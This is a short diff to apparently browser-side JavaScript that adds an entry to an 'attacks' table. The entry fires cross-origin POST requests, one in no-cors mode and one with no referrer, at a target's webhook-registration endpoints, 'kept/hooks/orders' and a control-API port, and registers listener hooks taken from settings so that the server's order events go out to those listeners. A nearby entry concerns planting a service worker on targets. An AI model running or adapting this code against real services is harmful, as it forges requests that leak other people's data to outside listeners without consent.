@@ -113,6 +113,15 @@ const attacks = {
       }),
     ),
 
+  // What the server sends behind the reply, to whom the page names.
+  async "a webhook to the control API or to another port"(base) {
+    const places = [base + "/kept/hooks/orders", settings.hooks.run + "/orders"];
+    const asks = places.flatMap((place) => settings.hooks.listeners.map((hook) => ({ place, body: JSON.stringify({ hook }) })));
+    await Promise.all(asks.map(({ place, body }) => read(place, { method: "POST", mode: "no-cors", body })));
+    await Promise.all(asks.map(({ place, body }) => read(place, { method: "POST", body, referrerPolicy: "no-referrer" })));
+    return "";
+  },
+
   async "a service worker"(base) {
     // One for all targets, since one registration would end the other.
     if (!window.isSecureContext || !settings.worker || base !== settings.targets[0]) return null;
